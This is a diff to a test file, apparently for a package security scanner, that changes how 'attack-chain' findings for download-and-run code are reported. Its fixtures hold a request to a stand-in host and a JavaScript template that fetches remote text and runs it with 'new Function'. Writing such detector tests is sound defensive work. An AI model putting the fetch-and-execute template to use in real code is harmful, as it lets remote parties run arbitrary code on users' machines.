@@ -193,9 +193,10 @@ def test_parts_in_several_files_that_run_at_load_are_held() -> None:
         "parcel/c.py": "import requests\ndef get():\n    return requests.get('https://x.pratique.invalid/p').text\n",
     }
     found = of_rule(wheel(files), "attack-chain")
-    assert ["download-run-as-code", "host-asked-and-code-run"] == [
-        finding.evidence.partition(",")[0] for finding in found
-    ]
+    assert [
+        "download-run-as-code, held together by flow; host-asked-and-code-run, held together by file"
+    ] == [finding.evidence for finding in found]
+    assert "; it also asks a host that few projects use and runs data as code" in found[0].message
 
 
 LOADS = "exports.load = async address => new Function(await (await fetch(%s)).text())();"
